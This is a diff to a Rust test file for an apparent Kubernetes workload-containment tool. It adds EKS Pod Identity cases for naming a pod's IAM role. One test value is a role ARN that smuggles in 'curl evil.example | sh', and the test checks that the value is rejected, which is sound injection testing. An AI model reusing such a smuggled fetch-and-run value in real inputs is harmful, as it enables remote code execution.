@@ -4,6 +4,7 @@ use day2_core::containment::{ContainedPod, ContainmentState, Sealed};
 use day2_kube::objects::{Controller, HorizontalPodAutoscaler, PodDetail, ScaledObject, ServiceAccount};
 use day2_kube::quarantine::{Isolation, Reason};
 use day2_kube::{ChainEnd, Listed, Owners};
+use day2_reads::pod_identities::ActsAs;
 use serde_json::{Value, json};
 
 use super::items::{self, Seen};
@@ -75,7 +76,17 @@ fn others(role: Option<&str>) -> WorkloadFacts {
         autoscalers: Ok(Vec::new()),
         scaled_objects: Ok(Some(Vec::new())),
         account: Ok(account),
+        pod_identity: Ok(Vec::new()),
+        actors: None,
         siblings: Ok(Listed::whole(Vec::new())),
+    }
+}
+
+fn acts_as(namespace: &str, account: &str, role: &str) -> ActsAs {
+    ActsAs {
+        namespace: namespace.to_owned(),
+        service_account: account.to_owned(),
+        role_arn: role.to_owned(),
     }
 }
 
@@ -170,7 +181,8 @@ fn whoever_brings_the_workload_back_is_named_k15() {
 }
 
 #[test]
-fn the_role_of_the_account_is_named_with_the_line_that_ends_its_older_sessions() {
+fn the_role_of_the_account_is_named_with_the_line_that_ends_its_older_sessions_and_a_hostile_one_is_not_e12()
+{
     let arn = "arn:aws:iam::123456789012:role/prod-a-checkout";
     let asked = |others: &WorkloadFacts| {
         let items = told(&a_pod(&json!({})), &owners(&[]), others, Isolation::Isolated);
@@ -186,7 +198,18 @@ fn the_role_of_the_account_is_named_with_the_line_that_ends_its_older_sessions()
         "arn:aws:iam::123456789012:role/x; curl evil.example | sh #",
     )));
     assert!(!hostile.contains("put-role-policy"), "{hostile}");
-    assert!(asked(&others(None)).contains("list-pod-identity-associations"));
+    let without = asked(&others(None));
+    assert!(
+        without.contains("acts as no IAM role of its own") && !without.contains("put-role-policy"),
+        "{without}"
+    );
+    let mut by_identity = others(None);
+    by_identity.pod_identity = Ok(vec![acts_as("shop", "checkout", arn)]);
+    let named = asked(&by_identity);
+    assert!(
+        named.contains(arn) && named.contains("--role-name prod-a-checkout"),
+        "by EKS Pod Identity: {named}"
+    );
     let mut unread = others(None);
     unread.account = Err(day2_core::Unreadable::new(
         "get serviceaccounts",
